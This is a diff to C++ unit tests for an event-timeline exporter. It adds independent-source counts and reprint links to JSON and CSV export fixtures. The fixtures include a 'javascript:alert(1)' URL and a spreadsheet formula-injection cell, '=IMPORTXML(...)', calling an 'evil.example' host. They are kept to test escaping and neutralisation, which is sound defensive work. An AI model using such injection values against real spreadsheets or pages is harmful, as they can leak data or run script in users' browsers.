@@ -54,8 +54,8 @@ const std::vector<events::Event> kEvents = {
 };
 
 const store::ArticleRefs kArticles = {
-    {3, {"Palmyra <retaken>", "https://example.org/p?a=1&b=2", "2016-03-29T16:27:03"}},
-    {5, {"Bad link", "javascript:alert(1)", "2016-03-30"}},
+    {3, {"Palmyra <retaken>", "https://example.org/p?a=1&b=2", "2016-03-29T16:27:03", std::nullopt}},
+    {5, {"Bad link", "javascript:alert(1)", "2016-03-30", 3}},  // a wire reprint of article 3
 };
 
 }  // namespace
@@ -65,6 +65,7 @@ TEST_CASE("native JSON is the Event form of the design, wrapped in {\"events\": 
     {"id": 17,
      "date": {"value": "2016-03-27", "granularity": "day", "start": "2016-03-27T00:00:00", "end": "2016-03-28T00:00:00"},
      "headline": "Syrian forces retook \"Palmyra\"", "summary": "On Sunday, forces retook Palmyra.", "confidence": 0.9, "state": "happened",
+     "independent_sources": 1,
      "entities": [{"name": "Palmyra", "kind": "place"}, {"name": "Syria", "kind": "place"}],
      "sources": [{"article_id": 3, "title": "Palmyra <retaken>", "url": "https://example.org/p?a=1&b=2",
                   "published": "2016-03-29T16:27:03",
@@ -73,17 +74,17 @@ TEST_CASE("native JSON is the Event form of the design, wrapped in {\"events\": 
                   "timex": {"text": "Sunday", "begin": 773, "end": 779, "value": "2016-03-27"}}]},
     {"id": 4,
      "date": {"value": "2015-05", "granularity": "month", "start": "2015-05-01T00:00:00", "end": "2015-06-01T00:00:00"},
-     "headline": "Palmyra fell <b>", "summary": "It fell\nlast May.", "confidence": 0.5, "state": "reported", "entities": [],
-     "sources": [{"article_id": 5, "title": "Bad link", "url": "javascript:alert(1)", "published": "2016-03-30",
+     "headline": "Palmyra fell <b>", "summary": "It fell\nlast May.", "confidence": 0.5, "state": "reported", "independent_sources": 1, "entities": [],
+     "sources": [{"article_id": 5, "title": "Bad link", "url": "javascript:alert(1)", "published": "2016-03-30", "reprint_of": 3,
                   "sentence": {"text": "It fell\nlast May.", "begin": 0, "end": 18},
                   "trigger": null, "state": "reported",
                   "timex": {"text": "last May", "begin": 8, "end": 16, "value": "2015-05"}}]},
     {"id": 8,
      "date": {"value": "2016-W12", "granularity": "week", "start": "2016-03-21T00:00:00", "end": "2016-03-28T00:00:00"},
-     "headline": "Talks went on", "summary": "Talks went on.", "confidence": 0.25, "state": "happened", "entities": [], "sources": []},
+     "headline": "Talks went on", "summary": "Talks went on.", "confidence": 0.25, "state": "happened", "independent_sources": 0, "entities": [], "sources": []},
     {"id": 9,
      "date": {"value": "199", "granularity": "decade", "start": "1990-01-01T00:00:00", "end": "2000-01-01T00:00:00"},
-     "headline": "A decade of change", "summary": "The 1990s.", "confidence": 0.1, "state": "happened", "entities": [], "sources": []}
+     "headline": "A decade of change", "summary": "The 1990s.", "confidence": 0.1, "state": "happened", "independent_sources": 0, "entities": [], "sources": []}
   ]})x");
   CHECK(json::parse(exporting::to_json(kEvents, kArticles)) == expected);
   CHECK(exporting::to_json({}, {}) == "{\"events\":[]}\n");
@@ -141,7 +142,7 @@ TEST_CASE("CSV text cells that a spreadsheet would run as a formula start with a
       event(3, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "\r=1+1",
             "\xEF\xBC\x9D" "1+1", 0.5, {}, {}),
   };
-  const store::ArticleRefs refs = {{7, {"=IMPORTXML(\"http://evil.example\",\"//a\")", "", "2016-03-29"}}};
+  const store::ArticleRefs refs = {{7, {"=IMPORTXML(\"http://evil.example\",\"//a\")", "", "2016-03-29", std::nullopt}}};
   const std::string expected =
       "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
       "1,2016-03-27,day,2016-03-27T00:00:00,2016-03-28T00:00:00,"
